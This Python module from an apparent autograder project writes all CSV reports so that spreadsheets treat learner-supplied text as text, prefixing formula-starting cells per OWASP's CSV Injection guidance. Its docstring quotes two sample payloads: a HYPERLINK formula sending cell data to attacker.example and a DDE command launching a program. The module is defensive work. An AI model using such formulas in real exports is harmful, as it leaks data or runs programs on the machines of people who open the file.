"""Every CSV file the project writes, written so that a spreadsheet runs none of its cells.

Names that learners set themselves (in Canvas or Moodle, in an upload's file name) and text a
submission produced end up in the CSV files an instructor opens in Excel, LibreOffice or Google
Sheets: problems.csv, grades.csv, the LMS imports, regrades.csv, insights.csv, similarity.csv.
A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula:
``=HYPERLINK("https://attacker.example/?"&A3,"Ada")`` sends the next cell away when clicked,
``+cmd|' /C calc'!A0`` asks to start a program. OWASP's rule (its CSV Injection page, and ASVS
requirement 1.2.10) is followed here: a text cell that starts with one of those, or with a tab,
a carriage return or a line feed, gets a single quote in front, which spreadsheets show as text.

Only text is changed. A number the project computed is passed as an ``int`` or a ``float`` and
written as a number (``-0.5`` stays ``-0.5``); text is passed as a ``str``, whatever it holds,
and is also made one line (autograder/engine/plain_text.py), the last guard before a report
shows what a submission wrote. ``cell`` gives back a cell it already made unchanged, so rows
read back from a file this module wrote can be written again as they are.

``write`` is the one way the project writes a CSV file (tests/test_hostile_reports.py fails
when a module calls ``csv.writer`` itself).
"""

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path

from autograder.engine.plain_text import one_line

# What a spreadsheet runs, or may run, when a text cell starts with it (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")

Cell = str | int | float | None


def cell(value: Cell) -> str:
    """One cell as it is written: text neutralised, a number as a number, None as nothing."""
    if value is None:
        return ""
    if isinstance(value, str):
        return ("'" if value.startswith(FORMULA_STARTS) else "") + one_line(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return format(value if value else 0.0, ".12g")  # -0.0 is written 0; no float noise past 12 digits
    raise TypeError(
        f"a CSV cell is text (str), a number the project computed (int or float) or None; "
        f"got {type(value).__name__}"
    )


def write(path: Path, rows: Iterable[Sequence[Cell]], append: bool = False) -> Path:
    """Write ``rows`` (the header first, where there is one) to ``path``, or add them at its end
    with ``append``; its folder is made if missing. Returns ``path``."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a" if append else "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([cell(value) for value in row] for row in rows)
    return path
